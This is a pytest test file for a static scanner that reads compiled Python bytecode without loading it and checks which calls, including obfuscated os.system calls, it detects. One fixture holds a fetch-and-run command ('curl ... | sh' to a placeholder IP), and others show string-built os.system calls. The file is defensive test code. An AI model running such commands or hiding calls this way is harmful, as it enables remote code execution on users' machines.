"""Compiled Python: names and constants are read, nothing is loaded."""

from __future__ import annotations

import marshal
import struct

import pytest

from stannary.checks.static.walk import read_view
from stannary.core.errors import FormatError
from stannary.formats.interface import View
from stannary.formats.marshal_code import LAYOUTS, read_marshal
from stannary.formats.marshal_names import code_names
from stannary.testing.forges.programs import code, compiled, pyc

SOURCE = '''
"""A module."""
import os
LIMITS = (1, 2 ** 80, 1.5, 2j, "text", b"bytes", None, ..., frozenset({3}), {"a": 1}, slice)
class Net:
    def forward(self, x, *, k=3):
        def inner(y):
            return [os.path.join(z, k) for z in y]
        return inner(x)
lam = lambda q: q.system
'''


def names_of(item):
    return {name for part in item.walk() for name in part.names}


def compiled_names(item):
    found = set(item.co_names)
    for const in item.co_consts:
        if hasattr(const, "co_names"):
            found |= compiled_names(const)
    return found


@pytest.mark.parametrize("version", range(5))
def test_this_interpreters_code_reads_as_it_is(version):
    real = compile(SOURCE, "m.py", "exec")
    raw = marshal.dumps(real, version)
    if version < 3:
        pytest.skip("code is only written with references from version 3 on") if b"\xe3" in raw[:1] else None
    read, end = read_marshal(raw)
    assert end == len(raw)
    assert names_of(read) == compiled_names(real)
    assert "text" in {text for part in read.walk() for text in part.consts}


@pytest.mark.parametrize(
    "content", [b"", b"c", b"N", b"\xe3" + bytes(3), b"(" + struct.pack("<i", -1), b"[" + b"\xff" * 40, b"r\x05\0\0\0"]
)
def test_what_is_no_code_is_an_error(content):
    with pytest.raises(FormatError):
        read_marshal(content)
    assert code_names(content) == ((), (), False)


def test_layouts_are_told_apart():
    raw = code(("os", "system"), ("x",))["raw"]
    assert read_marshal(raw)[0].layout == "3.11"
    for layout in set(LAYOUTS) - {"3.11"}:
        with pytest.raises(FormatError):
            read_marshal(raw, layout)


@pytest.mark.parametrize("magic", [3450, 3495, 3531, 3571, 3627])
def test_known_versions_are_read(magic):
    report = read_view(View(pyc(code(("os", "system")), magic=magic), "m.pyc"), strict=True)
    assert report.missed == ()
    assert {fact.data["name"] for fact in report.facts if fact.kind == "pyc.call"} == {"os.system"}


def test_a_bytecode_file_of_an_unknown_version_is_incomplete():
    assert read_view(View(pyc(code(("os",)), magic=9999), "m.pyc"), strict=True).missed


def test_top_level_is_told_from_functions():
    inner = code(("os", "system"), (None,), "f")
    report = read_view(View(pyc(code(("f",), (inner,))), "m.pyc"), strict=True)
    assert [fact.data["top"] for fact in report.facts if fact.kind == "pyc.call"] == [False]


@pytest.mark.parametrize(
    "source, calls",
    [
        ("import os\ndef f(x):\n    x.system = os.getcwd()\n", {"os.getcwd"}),
        ("import random\nrandom._os.system('echo stannary')\n", {"os.system"}),
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('echo stannary')\n", {"os.system"}),
        ("import os\ndef f(g):\n    return g(target=os.system)\n", {"os.system"}),
    ],
)
def test_compiled_code_is_judged_by_what_it_calls_and_not_by_its_names(source, calls):
    report = read_view(View(compiled(source), "m.pyc"), strict=True)
    assert report.missed == ()
    seen = {fact.data["name"] for fact in report.facts if fact.kind == "pyc.call"}
    assert seen & {"os.system", "os.getcwd"} == calls


def test_the_arguments_of_calls_in_compiled_code_are_known():
    content = compiled("import os\nos.system('curl http://192.0.2.1/x | sh')\n")
    calls = [fact.data for fact in read_view(View(content, "m.pyc"), strict=True).facts if fact.kind == "python.call"]
    assert [(call["name"], call["scope"], call["args"]) for call in calls] == [
        ("os.system", "import", ["curl http://192.0.2.1/x | sh"])
    ]


def test_compiled_code_that_does_not_add_up_is_judged_by_its_names():
    content = compiled("import os\nos.system('echo stannary')\n")
    header, body = content[:16], content[16:]
    code_object = read_marshal(body)[0].body
    broken = header + body.replace(code_object.code, bytes(len(code_object.code)))
    report = read_view(View(broken, "m.pyc"), strict=True)
    assert {fact.data["name"] for fact in report.facts if fact.kind == "pyc.call"} == {"os.system"}
    assert not [fact for fact in report.facts if fact.kind == "python.call"]
